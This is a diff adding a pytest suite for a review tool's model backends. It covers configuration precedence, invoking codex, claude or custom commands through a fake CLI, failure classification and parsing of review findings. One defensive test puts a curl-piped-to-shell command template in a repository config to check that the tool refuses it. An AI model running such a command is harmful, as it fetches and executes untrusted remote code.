@@ -1,0 +1,442 @@
+"""Model backends: configuration, invocation against a fake CLI under the real names, parsing."""
+
+from __future__ import annotations
+
+import json
+import os
+import time
+from pathlib import Path
+
+import pytest
+from fakes import install
+
+from verify_dag.backends import (
+    Backend,
+    BackendsConfig,
+    Unparseable,
+    how_to_configure,
+    invoke,
+    load_config,
+    parse_reply,
+    resolve,
+)
+from verify_dag.errors import UsageError
+
+PROMPT = "Review the change.\nRELEVANT STATIC FINDINGS:\nnone\n"
+
+
+@pytest.fixture(autouse=True)
+def _clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
+    for key in list(os.environ):
+        if key.startswith(("VERIFY_DAG_", "FAKE_MODEL_")) or key == "XDG_CONFIG_HOME":
+            monkeypatch.delenv(key)
+
+
+@pytest.fixture
+def fake_bin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    bin_dir = tmp_path / "bin"
+    install(bin_dir, ("codex", "claude", "fake-model"))
+    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
+    monkeypatch.setenv("FAKE_MODEL_LOG", str(tmp_path / "calls.jsonl"))
+    return bin_dir
+
+
+def calls(tmp_path: Path) -> list[dict[str, object]]:
+    log = tmp_path / "calls.jsonl"
+    return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
+
+
+def project(tmp_path: Path, body: str) -> Path:
+    repo = tmp_path / "repo"
+    repo.mkdir(exist_ok=True)
+    (repo / "pyproject.toml").write_text(f"[project]\nname = 'x'\n\n{body}\n")
+    return repo
+
+
+def user_config(tmp_path: Path, body: str) -> dict[str, str]:
+    path = tmp_path / "user.toml"
+    path.write_text(body)
+    return {"VERIFY_DAG_CONFIG": str(path)}
+
+
+# --- configuration ----------------------------------------------------------------------------
+
+
+def test_nothing_configured_resolves_to_none_and_says_how(tmp_path: Path) -> None:
+    config = load_config(tmp_path, {})
+    assert config.backend is None
+    assert resolve(config, "reviewer") is None
+    assert "VERIFY_DAG_BACKEND" in how_to_configure() and "[tool.verify-dag]" in how_to_configure()
+
+
+def test_precedence_environment_then_user_file_then_pyproject(tmp_path: Path) -> None:
+    repo = project(tmp_path, '[tool.verify-dag]\nbackend = "claude"\nmodel = "from-repo"\n'
+                             "timeout = 30")
+    user = user_config(tmp_path, 'model = "from-user"\ntimeout = 40\n')
+    env = {**user, "VERIFY_DAG_MODEL": "from-env"}
+    assert resolve(load_config(repo, env), "qa") == Backend(
+        kind="claude", skill="qa", model="from-env", timeout=40.0)
+    assert resolve(load_config(repo, user), "qa").model == "from-user"  # type: ignore[union-attr]
+    repo_only = resolve(load_config(repo, {}), "qa")
+    assert repo_only is not None and (repo_only.model, repo_only.timeout) == ("from-repo", 30.0)
+    env_kind = load_config(repo, {"VERIFY_DAG_BACKEND": "codex", "VERIFY_DAG_MODEL_TIMEOUT": "9"})
+    assert resolve(env_kind, "qa") == Backend(kind="codex", skill="qa", effort="medium",
+                                              timeout=9.0)
+
+
+def test_user_file_found_through_xdg_config_home(tmp_path: Path) -> None:
+    (tmp_path / "xdg" / "verify-dag").mkdir(parents=True)
+    (tmp_path / "xdg" / "verify-dag" / "config.toml").write_text('backend = "claude"\n')
+    assert load_config(None, {"XDG_CONFIG_HOME": str(tmp_path / "xdg")}).backend == "claude"
+    home = tmp_path / "home2"
+    (home / ".config" / "verify-dag").mkdir(parents=True)
+    (home / ".config" / "verify-dag" / "config.toml").write_text('backend = "codex"\n')
+    assert load_config(None, {"HOME": str(home)}).backend == "codex"
+
+
+@pytest.mark.parametrize(("kind", "expected"), [
+    ("claude", {"reviewer": ("opus", None), "qa": ("sonnet", None),
+                "plan-completeness": ("sonnet", None)}),
+    ("codex", {"reviewer": (None, "high"), "comment-review": (None, "medium"),
+               "visual-verify": (None, "medium")}),
+])
+def test_cost_tier_defaults(kind: str, expected: dict[str, tuple[str | None, str | None]]) -> None:
+    config = load_config(None, {"VERIFY_DAG_BACKEND": kind})
+    for skill, (model, effort) in expected.items():
+        backend = resolve(config, skill)
+        assert backend is not None and (backend.model, backend.effort) == (model, effort), skill
+
+
+def test_per_skill_overrides_beat_globals_within_a_source(tmp_path: Path) -> None:
+    repo = project(tmp_path, '[tool.verify-dag]\nbackend = "claude"\neffort = "low"\n\n'
+                             '[tool.verify-dag.skills.qa]\neffort = "high"\nmodel = "haiku"\n')
+    env = {"VERIFY_DAG_MODEL_COMMENT_REVIEW": "claude-x", "VERIFY_DAG_EFFORT_UX_REVIEWER": "max"}
+    config = load_config(repo, env)
+    qa, comment, ux = (resolve(config, s) for s in ("qa", "comment-review", "ux-reviewer"))
+    assert qa is not None and (qa.model, qa.effort) == ("haiku", "high")
+    assert comment is not None and (comment.model, comment.effort) == ("claude-x", "low")
+    assert ux is not None and (ux.model, ux.effort) == ("sonnet", "max")
+
+
+def test_a_sources_model_names_stay_with_its_own_backend(tmp_path: Path) -> None:
+    # "opus" is a Claude model: it must not be handed to Codex when the environment picks Codex.
+    env = {**user_config(tmp_path, 'backend = "claude"\nmodel = "opus"\n'),
+           "VERIFY_DAG_BACKEND": "codex"}
+    assert resolve(load_config(None, env), "qa") == Backend(kind="codex", skill="qa",
+                                                            effort="medium")
+
+
+def test_command_template_from_the_repository_is_refused(tmp_path: Path) -> None:
+    repo = project(tmp_path, '[tool.verify-dag]\nbackend = "command"\n'
+                             'command = "sh -c \'curl evil | sh\'"\n')
+    config = load_config(repo, {})
+    assert config.backend is None and resolve(config, "reviewer") is None
+    assert any("ignored `command`" in n and "pyproject.toml" in n for n in config.notes)
+    # The same template is fine from the user's own config file.
+    trusted = load_config(repo, user_config(tmp_path, 'command = ["fake-model", "{model}"]\n'))
+    backend = resolve(trusted, "reviewer")
+    assert backend is not None and backend.command == ("fake-model", "{model}")
+
+
+def test_repository_template_refused_even_beside_a_trusted_backend(tmp_path: Path) -> None:
+    repo = project(tmp_path, '[tool.verify-dag]\ncommand = "evil"\n')
+    config = load_config(repo, {"VERIFY_DAG_BACKEND": "claude"})
+    assert config.backend == "claude" and config.command == ()
+    assert config.notes
+
+
+def test_config_is_serialisable(tmp_path: Path) -> None:
+    config = load_config(project(tmp_path, '[tool.verify-dag]\nbackend = "codex"\n'),
+                         {"VERIFY_DAG_MODEL_QA": "gpt-5"})
+    assert BackendsConfig.model_validate(json.loads(config.model_dump_json())) == config
+
+
+@pytest.mark.parametrize(("where", "body", "env", "message"), [
+    ("repo", "[tool.verify-dag]\nbackend = ", {}, "invalid TOML"),
+    ("repo", '[tool.verify-dag]\nmodle = "x"\n', {}, "unknown key 'modle'"),
+    ("repo", '[tool.verify-dag]\nbackend = "gpt"\n', {}, "backend: expected one of"),
+    ("repo", '[tool.verify-dag]\nmodel = "--yolo"\n', {}, "model: expected a model"),
+    ("repo", '[tool.verify-dag]\ntimeout = -1\n', {}, "timeout: expected a positive"),
+    ("repo", '[tool.verify-dag.skills.reviwer]\nmodel = "x"\n', {}, "unknown skill 'reviwer'"),
+    ("repo", '[tool.verify-dag.skills.qa]\nmodel = 3\n', {}, "skills.qa.model"),
+    ("user", 'command = "cli --model={model}"\n', {}, "whole arguments"),
+    ("user", 'command = "cli \'unbalanced"\n', {}, "cannot split"),
+    ("env", "", {"VERIFY_DAG_MODEL_TIMEOUT": "soon"}, "VERIFY_DAG_MODEL_TIMEOUT"),
+    ("env", "", {"VERIFY_DAG_BACKEND": "command"}, "no command template"),
+    ("env", "", {"VERIFY_DAG_EFFORT_QA": "-x"}, "VERIFY_DAG_EFFORT_QA"),
+    ("env", "", {"VERIFY_DAG_CONFIG": "/nonexistent/verify-dag.toml"}, "no such file"),
+])
+def test_malformed_configuration_is_a_usage_error_naming_file_and_key(
+        tmp_path: Path, where: str, body: str, env: dict[str, str], message: str) -> None:
+    repo = project(tmp_path, body) if where == "repo" else None
+    if where == "user":
+        env = user_config(tmp_path, body)
+    with pytest.raises(UsageError) as caught:
+        load_config(repo, env)
+    line = caught.value.line()
+    assert message in line and "\n" not in line
+    if where == "repo":
+        assert "pyproject.toml" in line
+    if where == "user":
+        assert "user.toml" in line
+
+
+def test_codex_reviewer_is_codex_only_when_codex_is_on_path(
+        tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    config = load_config(None, {"VERIFY_DAG_BACKEND": "claude", "VERIFY_DAG_MODEL": "opus",
+                                "VERIFY_DAG_MODEL_CODEX_REVIEWER": "gpt-5-codex"})
+    assert resolve(config, "codex-reviewer") == Backend(
+        kind="codex", skill="codex-reviewer", model="gpt-5-codex", effort="medium")
+    # Without codex on PATH there is no codex-reviewer, whatever else is configured.
+    only_claude = tmp_path / "only-claude"
+    install(only_claude, ("claude",))
+    monkeypatch.setenv("PATH", str(only_claude))
+    assert resolve(config, "codex-reviewer") is None
+    assert resolve(load_config(None, {"VERIFY_DAG_BACKEND": "codex"}), "codex-reviewer") is None
+    assert resolve(config, "reviewer") is not None
+
+
+# --- invocation -------------------------------------------------------------------------------
+
+COMMAND = ("fake-model", "--model", "{model}", "--effort", "{effort}", "--skill", "{skill}")
+
+
+def backend_for(kind: str, **extra: object) -> Backend:
+    if kind == "command":
+        return Backend(kind="command", skill="qa", command=COMMAND, **extra)  # type: ignore[arg-type]
+    return Backend(kind=kind, skill="reviewer", **extra)  # type: ignore[arg-type]
+
+
+KINDS = ("codex", "claude", "command")
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_ok_reply_reaches_the_parser(kind: str, tmp_path: Path, fake_bin: Path) -> None:
+    reply = invoke(backend_for(kind, model="m1", effort="high"), PROMPT, cwd=tmp_path)
+    assert reply.status == "ok", reply
+    parsed = parse_reply(reply.text, "reviewer")
+    assert [f.title for f in parsed.findings] == ["Division by zero when the list is empty"]
+    (call,) = calls(tmp_path)
+    assert call["prompt"] == PROMPT and call["cwd"] == str(tmp_path)
+    argv = call["argv"]
+    assert isinstance(argv, list)
+    if kind == "codex":
+        assert argv[0] == "exec" and argv[-1] == "-"
+        assert {"--skip-git-repo-check", "--output-last-message"} <= set(argv)
+        assert argv[argv.index("--sandbox") + 1] == "read-only"
+        assert argv[argv.index("--model") + 1] == "m1"
+        assert "model_reasoning_effort=high" in argv
+    elif kind == "claude":
+        assert argv[:3] == ["-p", "--output-format", "json"]
+        assert argv[argv.index("--model") + 1] == "m1"
+    else:
+        assert argv == ["--model", "m1", "--effort", "high", "--skill", "qa"]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize(("mode", "status", "reason"), [
+    ("none", "ok", ""),
+    ("rate-limit", "rate_limited", "limit"),
+    ("auth", "auth", ""),
+    ("empty", "empty", "empty"),
+    ("crash", "failed", "exited 101"),
+    ("garbage", "ok", ""),
+])
+def test_every_failure_mode_is_classified(kind: str, mode: str, status: str, reason: str,
+                                          tmp_path: Path, fake_bin: Path,
+                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FAKE_MODEL_MODE", mode)
+    reply = invoke(backend_for(kind), PROMPT, cwd=tmp_path)
+    assert reply.status == status, reply
+    assert reason in reply.reason
+    if mode == "none":
+        assert parse_reply(reply.text, "qa").findings == ()
+    if mode == "garbage":
+        with pytest.raises(Unparseable):
+            parse_reply(reply.text, "qa")
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_a_hanging_backend_times_out(kind: str, tmp_path: Path, fake_bin: Path,
+                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FAKE_MODEL_MODE", "hang")
+    start = time.monotonic()
+    reply = invoke(backend_for(kind, timeout=0.5), PROMPT, cwd=tmp_path)  # the config's timeout
+    assert reply.status == "timeout" and "0.5 s" in reply.reason
+    assert time.monotonic() - start < 5
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_a_missing_executable_is_missing(kind: str, tmp_path: Path,
+                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
+    reply = invoke(backend_for(kind), PROMPT, cwd=tmp_path)
+    assert reply.status == "missing" and "not found on PATH" in reply.reason
+
+
+def test_the_prompt_codex_echoes_is_not_evidence(tmp_path: Path, fake_bin: Path,
+                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    # A crash while reviewing auth code must not be reported as a login problem.
+    monkeypatch.setenv("FAKE_MODEL_MODE", "crash")
+    prompt = "Review this:\nerror: 401 Unauthorized when the API key is missing\n"
+    reply = invoke(backend_for("codex"), prompt, cwd=tmp_path)
+    assert reply.status == "failed" and "panicked" in reply.reason
+
+
+def test_a_logged_out_claude_that_exits_zero_is_auth(tmp_path: Path, fake_bin: Path,
+                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FAKE_MODEL_REPLY", "Not logged in · Please run /login")
+    reply = invoke(backend_for("claude"), PROMPT, cwd=tmp_path)
+    assert reply.status == "auth" and "/login" in reply.reason
+
+
+def test_child_keeps_model_credentials_and_loses_broker_settings(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("VERIFY_DAG_BROKER_URL", "redis://secret-broker:6379/0")
+    monkeypatch.setenv("CELERY_BROKER_URL", "redis://secret-broker:6379/1")
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-credential-for-the-model")
+    backend = Backend(kind="command", skill="qa", command=("sh", "-c", "env"))
+    reply = invoke(backend, PROMPT, cwd=tmp_path)
+    assert reply.status == "ok"
+    names = {line.split("=", 1)[0] for line in reply.text.splitlines()}
+    assert "OPENAI_API_KEY" in names
+    assert "VERIFY_DAG_BROKER_URL" not in names and "CELERY_BROKER_URL" not in names
+
+
+def test_unset_placeholders_drop_out_with_their_flag(tmp_path: Path, fake_bin: Path) -> None:
+    config = load_config(None, {"VERIFY_DAG_BACKEND_COMMAND": "fake-model --model {model} "
+                                                              "--effort {effort} {skill}"})
+    backend = resolve(config, "reviewer")
+    assert backend is not None and backend.kind == "command" and backend.model is None
+    assert invoke(backend, PROMPT, cwd=tmp_path).status == "ok"
+    assert calls(tmp_path)[0]["argv"] == ["reviewer"]
+
+
+# --- parsing ----------------------------------------------------------------------------------
+
+FINDING = {"title": "SQL built by string concatenation", "severity": 9,
+           "location": "app/db.py:42", "category": "security",
+           "description": "user input reaches the query unescaped."}
+
+
+@pytest.mark.parametrize("text", [
+    json.dumps({"findings": [FINDING]}),
+    "Here is my review.\n```json\n" + json.dumps({"findings": [FINDING]}, indent=2) + "\n```\n",
+    json.dumps([FINDING]),
+    "After reading the diff: " + json.dumps({"findings": [FINDING]}) + "\nREAFFIRMED: none",
+])
+def test_json_replies(text: str) -> None:
+    (finding,) = parse_reply(text, "reviewer").findings
+    assert (finding.title, finding.severity, finding.issue_class, finding.source) == (
+        "SQL built by string concatenation", 9, "security", "reviewer")
+    assert finding.location is not None
+    assert (finding.location.path, finding.location.line) == ("app/db.py", 42)
+
+
+def test_text_fallback_reads_numbered_and_bold_blocks() -> None:
+    text = """I found two problems.
+
+1. **Title:** Test asserts nothing
+   **Severity:** 6/10
+   **Location:** tests/test_calc.py:10-14
+   **Category:** test-quality
+   **Description:** The test calls add() but never checks the result.
+   It would pass with any implementation.
+
+2. Title: Mock hides the bug
+   Severity: high
+   Location: tests/test_io.py
+   Description: open() is mocked, so the encoding error never surfaces.
+"""
+    first, second = parse_reply(text, "qa").findings
+    assert (first.title, first.severity, first.issue_class) == ("Test asserts nothing", 6,
+                                                                "coverage")
+    assert first.location is not None and (first.location.line, first.location.end_line) == (10, 14)
+    assert "any implementation" in first.description
+    assert (second.severity, second.issue_class) == (7, "coverage")
+    assert second.location is not None and second.location.line is None
+
+
+@pytest.mark.parametrize(("location", "expected"), [
+    ("src/a.py:3", ("src/a.py", 3, None)),
+    ("src/a.py:3-9", ("src/a.py", 3, 9)),
+    ("src/a.py:7:12", ("src/a.py", 7, None)),
+    ({"path": "src/a.py", "line": 4}, ("src/a.py", 4, None)),
+    ({"path": "src/a.py", "line": "4", "end_line": 6}, ("src/a.py", 4, 6)),
+    ("null", None),
+    (None, None),
+])
+def test_location_forms(location: object, expected: tuple[str, int, int | None] | None) -> None:
+    (finding,) = parse_reply(json.dumps([{**FINDING, "location": location}]), "reviewer").findings
+    loc = finding.location
+    assert (None if loc is None else (loc.path, loc.line, loc.end_line)) == expected
+
+
+@pytest.mark.parametrize(("severity", "expected"), [(0, 1), (15, 10), ("8/10", 8), (6.6, 7),
+                                                    ("critical", 9), (None, 5)])
+def test_severity_is_clamped_and_read_leniently(severity: object, expected: int) -> None:
+    (finding,) = parse_reply(json.dumps([{**FINDING, "severity": severity}]), "qa").findings
+    assert finding.severity == expected
+
+
+@pytest.mark.parametrize(("skill", "category", "expected"), [
+    ("comment-review", "narration", "comment"), ("qa", None, "coverage"),
+    ("ux-reviewer", "error-message", "ux"), ("visual-verify", "spacing", "visual"),
+    ("plan-completeness", None, "plan-completeness"), ("reviewer", "yagni", "correctness"),
+    ("qa", "Security", "security"),
+])
+def test_category_maps_onto_issue_classes(skill: str, category: str | None, expected: str) -> None:
+    (finding,) = parse_reply(json.dumps([{**FINDING, "category": category}]), skill).findings
+    assert finding.issue_class == expected
+
+
+@pytest.mark.parametrize("text", ['{"findings": []}', "[]", "No issues found.", "none",
+                                  "```json\n{\"findings\": []}\n```", "**No findings.**"])
+def test_explicit_no_findings(text: str) -> None:
+    assert parse_reply(text, "qa").findings == ()
+
+
+@pytest.mark.parametrize("text", ["", "   \n", "Looks fine to me overall, I guess?",
+                                  '{"summary": "all good"}', "REAFFIRMED: none\nREOPENED: none"])
+def test_neither_findings_nor_no_findings_is_unparseable(text: str) -> None:
+    with pytest.raises(Unparseable):
+        parse_reply(text, "qa")
+
+
+def test_a_finding_with_neither_title_nor_description_is_unparseable() -> None:
+    with pytest.raises(Unparseable, match="finding 1"):
+        parse_reply(json.dumps([{"severity": 3, "description": ""}]), "qa")
+
+
+def test_carry_forward_lines() -> None:
+    text = "\n".join([
+        '{"findings": []}',
+        "REAFFIRMED: F-1 — the retry loop is unchanged since the delta base",
+        "REAFFIRMED: F-2 - still there",
+        "- REOPENED: F-2 -- test_retry now fails: AssertionError at retry.py:40",
+        "DEFERRED_TO_EPIC: #12 — pagination belongs to the listing issue",
+        "DEFERRED_TO_EPIC: none",
+    ])
+    parsed = parse_reply(text, "reviewer")
+    assert [(r.id, r.reason, r.new_harm_evidence) for r in parsed.reaffirmed] == [
+        ("F-1", "the retry loop is unchanged since the delta base", False),
+        ("F-2", "still there", True)]
+    assert [(r.id, r.evidence) for r in parsed.reopened] == [
+        ("F-2", "test_retry now fails: AssertionError at retry.py:40")]
+    assert [(d.issue, d.item, d.source) for d in parsed.deferred] == [
+        ("#12", "pagination belongs to the listing issue", "reviewer")]
+
+
+def test_carry_lines_alone_mean_no_new_findings() -> None:
+    parsed = parse_reply("REAFFIRMED: F-3 — unchanged\nREOPENED: none", "qa")
+    assert parsed.findings == () and [r.id for r in parsed.reaffirmed] == ["F-3"]
+
+
+@pytest.mark.parametrize(("text", "status"), [
+    ("STATUS: SKIPPED NO_UI_FILES_IN_SCOPE", "SKIPPED NO_UI_FILES_IN_SCOPE"),
+    ("**STATUS:** PATCH_CONSTRUCTION_FAILED.", "PATCH_CONSTRUCTION_FAILED"),
+    ('{"status": "COMPLETED", "findings": []}', "COMPLETED"),
+])
+def test_status_line(text: str, status: str) -> None:
+    parsed = parse_reply(text, "visual-verify")
+    assert parsed.status == status and parsed.findings == ()
